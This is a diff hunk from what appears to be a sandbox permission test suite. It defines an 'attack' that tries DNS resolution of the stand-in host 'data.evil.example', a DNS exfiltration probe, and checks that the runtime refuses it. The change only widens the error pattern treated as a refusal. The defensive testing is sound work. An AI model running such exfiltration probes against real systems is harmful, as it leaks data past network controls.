@@ -151,7 +151,7 @@ const ATTACKS: Attack[] = [
     code: `import dns from 'node:dns/promises'
       const asked = []
       for (const ask of [() => Deno.resolveDns('data.evil.example', 'A'), () => dns.lookup('localhost')]) {
-        try { await ask(); asked.push('ANSWERED') } catch (error) { asked.push(error.name === 'NotCapable' || error.code === 'EPERM' || /Requires net/.test(error.message) ? 'refused' : 'ANSWERED') }
+        try { await ask(); asked.push('ANSWERED') } catch (error) { asked.push(error.name === 'NotCapable' || error.code === 'EPERM' || /Requires net|io error/.test(error.message) ? 'refused' : 'ANSWERED') }
       }
       console.log(asked.includes('ANSWERED') ? 'ASKED' : 'refused')`,
     loot: /ASKED/,
